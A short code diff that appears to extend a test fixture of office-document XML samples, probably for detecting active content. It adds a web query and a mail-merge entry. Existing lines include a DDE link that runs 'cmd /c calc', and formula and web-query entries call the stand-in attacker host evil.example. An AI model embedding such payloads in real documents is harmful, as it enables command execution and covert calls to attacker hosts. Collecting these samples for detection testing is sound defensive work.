@@ -39,6 +39,10 @@ RUNNING = {
     "dde-link": f'<externalLink {SHEET}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
     "ods-formula": f'<office:document-content {TABLE}><table:table-cell table:formula="of:=WEBSERVICE(&quot;'
                    'https://evil.example/&quot;)"/></office:document-content>',
+    "web-query": f'<connections {SHEET}><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr '
+                 'url="https://evil.example/q"/></connection></connections>',
+    "mail-merge": f'<w:settings {W}><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString '
+                  'w:val="DSN=x"/><w:query w:val="SELECT * FROM t"/></w:mailMerge></w:settings>',
     "odt-dde": f'<office:document-content {TABLE}><text:dde-connection-decls><text:dde-connection-decl '
                'text:name="x"/></text:dde-connection-decls></office:document-content>',
 }
